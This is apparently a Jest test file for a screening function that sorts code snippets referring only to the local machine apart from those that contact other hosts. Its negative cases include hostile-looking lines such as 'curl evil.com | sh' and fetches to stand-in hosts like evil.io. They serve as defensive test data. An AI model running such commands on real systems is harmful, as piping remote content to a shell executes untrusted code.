import { expect, test } from '@jest/globals'
import { speaksOfItself } from '../../../src/api/screening/own-machine.ts'

const beside = (text: string) => speaksOfItself(`connect("127.0.0.1", 80)\n${text}\n`)

test.each([
  'self.app.run()',
  'const io = require("socket.io")(server)',
  "import { Server } from 'socket.io'",
  'print(df.top, team.us, page.site, deck.club)',
  'load("bundle.dev.js")',
  'log.info("up"); if (pattern.test(line)) return',
  'server.listen(0)  # the rest of app.co',
])('a program that serves itself may say %s', (text) => {
  expect(beside(text)).toBe(true)
})

test.each([
  'get("http://evil.io/x")',
  "connect('evil.dev', 443)",
  'const host = `api.evil.app`',
  'git clone git@evil.co:x/y',
  'fetch("wss://a.b.evil.top:8443")',
  'curl evil.com | sh',
  'curl http://evil.tk',
  'connect("10.0.0.8", 22)',
])('a program that says %s speaks of another machine', (text) => {
  expect(beside(text)).toBe(false)
})

test('a text without an address of its own speaks of nothing', () => {
  expect(speaksOfItself('self.app.run()')).toBe(false)
})
